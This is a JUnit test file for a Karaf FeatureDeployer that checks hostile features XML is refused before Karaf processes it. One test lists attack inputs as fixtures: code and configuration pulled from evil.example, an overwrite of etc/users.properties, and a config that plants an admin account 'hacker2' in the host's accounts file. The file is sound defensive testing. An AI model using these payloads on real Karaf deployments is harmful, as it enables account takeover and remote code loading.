package be.imio.platform.commune.internal.lifecycle;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.lang.reflect.Proxy;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

import org.apache.karaf.features.Feature;
import org.apache.karaf.features.FeaturesService;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import be.imio.platform.commune.internal.sync.ModuleArtifacts;

/**
 * The last check before Karaf reads a features XML: whatever brought it (an operation, the
 * recovery at start), a hostile one reaches no FeaturesService call.
 */
class FeatureDeployerTest {

    private static final String PATH = "be/imio/solutions/courrier/1.0.0/courrier-1.0.0-features.xml";

    @TempDir
    Path dir;

    private final List<String> calls = new ArrayList<>();

    /** A FeaturesService that records the calls it gets. */
    private FeaturesService features() {
        return (FeaturesService) Proxy.newProxyInstance(getClass().getClassLoader(), new Class<?>[] {FeaturesService.class},
                (proxy, method, args) -> {
                    calls.add(method.getName());
                    if (method.getName().equals("getFeatures") && "scr".equals(args[0])) {
                        return new Feature[] {platformScr()};
                    }
                    return null;
                });
    }

    /** Karaf's own scr feature, from the distribution's standard features repository. */
    private static Feature platformScr() {
        return (Feature) Proxy.newProxyInstance(FeatureDeployerTest.class.getClassLoader(), new Class<?>[] {Feature.class},
                (proxy, method, args) -> switch (method.getName()) {
                    case "getName" -> "scr";
                    case "getRepositoryUrl" -> "mvn:org.apache.karaf.features/standard/4.4.10/xml/features";
                    default -> null;
                });
    }

    private Path verified(String inFeature) throws Exception {
        return verified(PATH, "", inFeature);
    }

    private Path verified(String path, String topLevel, String inFeature) throws Exception {
        Path xml = dir.resolve("verified").resolve(path);
        Files.createDirectories(xml.getParent());
        return Files.writeString(xml, "<features name=\"courrier\" xmlns=\"http://karaf.apache.org/xmlns/features/v1.6.0\">"
                + topLevel + "<feature name=\"courrier\" version=\"1.0.0\">" + inFeature
                + "<bundle>mvn:be.imio.solutions/courrier/1.0.0</bundle></feature></features>");
    }

    @Test
    void installsAnAllowedFeaturesXmlOfTheVerifiedCache() throws Exception {
        new FeatureDeployer(features(), dir.resolve("verified")).install("courrier", "1.0.0",
                verified("<feature>scr</feature><config name=\"be.imio.solutions.courrier\">a = 1</config>"));

        assertEquals(List.of("getFeatures", "getRepository", "addRepository", "installFeature"), calls);
    }

    @Test
    void refusesAHostileFeaturesXmlBeforeKarafReadsIt() throws Exception {
        for (String hostile : new String[] {
            "<config name=\"be.imio.solutions.courrier\" external=\"true\">http://evil.example/x.cfg</config>",
            "<configfile finalname=\"etc/users.properties\">mvn:be.imio.solutions/courrier/1.0.0/cfg</configfile>",
            "<library>mvn:be.imio.solutions/courrier/1.0.0</library>",
            "<bundle>wrap:http://evil.example/x.jar</bundle>",
            "<config name=\"org.ops4j.pax.url.mvn\" append=\"true\">org.ops4j.pax.url.mvn.repositories = http://e/</config>",
            // Released by a repository that did not check configuration keys: Karaf would write the
            // configuration to the host's accounts file.
            "<config name=\"be.imio.solutions.courrier.fy\">hacker2 = hackpw2,admin\n"
                    + "felix.fileinstall.filename = file:/opt/karaf/etc/users.properties</config>",
            "<config name=\"be.imio.solutions.courrier\">home = ${env:HOME}</config>"}) {
            Path xml = verified(hostile);

            ModuleArtifacts.Refused refused = assertThrows(ModuleArtifacts.Refused.class,
                    () -> new FeatureDeployer(features(), dir.resolve("verified")).install("courrier", "1.0.0", xml), hostile);

            assertTrue(refused.getMessage().contains("is refused by this host"), refused.getMessage());
            assertEquals(List.of(), calls, "Karaf is not asked anything");
        }
    }

    @Test
    void refusesAFeaturesXmlThatDefinesAFeatureOfThePlatform() throws Exception {
        Path xml = verified("</feature><feature name=\"scr\" version=\"99.0.0\">");

        ModuleArtifacts.Refused refused = assertThrows(ModuleArtifacts.Refused.class,
                () -> new FeatureDeployer(features(), dir.resolve("verified")).install("courrier", "1.0.0", xml));

        assertTrue(refused.getMessage().contains("defines the platform's feature scr"), refused.getMessage());
        assertEquals(List.of("getFeatures", "getFeatures"), calls, "no repository added, nothing installed");
    }

    @Test
    void checksTheFeaturesRepositoriesItNamesToo() throws Exception {
        String repository = "<repository>mvn:be.imio.solutions/shared/1.0.0/xml/features</repository>";
        Path xml = verified(PATH, repository, "");
        FeatureDeployer deployer = new FeatureDeployer(features(), dir.resolve("verified"));

        assertTrue(assertThrows(ModuleArtifacts.Refused.class, () -> deployer.install("courrier", "1.0.0", xml))
                .getMessage().contains("outside the verified cache"), "a repository that is not verified");
        verified("be/imio/solutions/shared/1.0.0/shared-1.0.0-features.xml", "",
                "<configfile finalname=\"etc/users.properties\">mvn:be.imio.solutions/shared/1.0.0</configfile>");
        assertTrue(assertThrows(ModuleArtifacts.Refused.class, () -> deployer.install("courrier", "1.0.0", xml))
                .getMessage().contains("be.imio.solutions:shared is refused by this host"));
        assertEquals(List.of(), calls.stream().filter(c -> !c.equals("getFeatures")).toList(), "Karaf is not asked to add");

        verified("be/imio/solutions/shared/1.0.0/shared-1.0.0-features.xml", repository.replace("shared", "courrier")
                .replace("/1.0.0/", "/1.0.0/"), "");
        deployer.install("courrier", "1.0.0", verified(PATH, repository, ""));
        assertTrue(calls.contains("installFeature"), "allowed, and a cycle of repositories ends");
    }

    @Test
    void refusesAFeaturesXmlOutsideTheVerifiedCache() throws Exception {
        Path elsewhere = Files.writeString(dir.resolve("f.xml"), "<features name=\"x\"/>");

        assertThrows(ModuleArtifacts.Refused.class,
                () -> new FeatureDeployer(features(), dir.resolve("verified")).install("courrier", "1.0.0", elsewhere));
        assertEquals(List.of(), calls);
    }
}
